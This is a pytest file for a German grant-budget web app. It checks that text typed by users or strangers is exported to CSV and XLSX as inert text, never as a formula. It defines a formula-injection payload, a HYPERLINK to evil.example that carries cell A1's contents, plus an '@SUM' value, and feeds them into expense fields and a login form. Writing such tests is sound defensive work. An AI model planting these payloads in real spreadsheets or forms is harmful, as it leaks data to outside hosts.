"""Issue #14, 1: text typed by a Kommune or a stranger reaches the admin's export as text, never as a
formula (CSV cell neutralised, XLSX cell stored as a string)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")


def _xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def _csv_cells(response) -> list[str]:
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:] for cell in row]


def test_expense_description_is_exported_as_text(app, make_user, make_grant, api, client):
    grant = make_grant()
    kommune = api(make_user("kommune"))
    created = kommune.post(f"/api/v1/budgets/grants/{grant.id}/expenses",
                           json={"module": "F1", "expense_date": "2021-03-01", "amount": "10.00",
                                 "voucher_ref": "@SUM(A1)", "description": FORMULA})
    assert created.status_code == 201, created.json
    client.login(make_user("programme_admin"))
    xlsx = client.get(f"/budgets/zuwendungen/{grant.id}/ausgaben/export.xlsx")
    cells = {cell.value: cell for cell in _xlsx_cells(xlsx)}
    assert cells[FORMULA].data_type == "s" and cells["@SUM(A1)"].data_type == "s"
    assert xlsx.headers["Cache-Control"] == "no-store"
    listed = client.get(f"/budgets/zuwendungen/{grant.id}/ausgaben?export=csv")
    exported = _csv_cells(client.get(f"/budgets/zuwendungen/{grant.id}/ausgaben/export.csv")) + _csv_cells(listed)
    assert "'" + FORMULA in exported and "'@SUM(A1)" in exported
    assert not any(cell.startswith(("=", "+", "@")) for cell in exported)


def test_login_name_typed_by_a_stranger_never_becomes_a_formula(app, make_user, client):
    stranger = app.test_client()
    token = re.search(r'name="csrf_token" value="([^"]+)"', stranger.get("/anmelden").get_data(as_text=True))
    refused = stranger.post("/anmelden", data={"email": FORMULA, "password": "x", "csrf_token": token.group(1)})
    assert refused.status_code == 401
    client.login(make_user("auditor"))
    cells = _xlsx_cells(client.get("/audit?export=xlsx"))
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert not any(cell.startswith("=") for cell in _csv_cells(client.get("/audit?export=csv")))
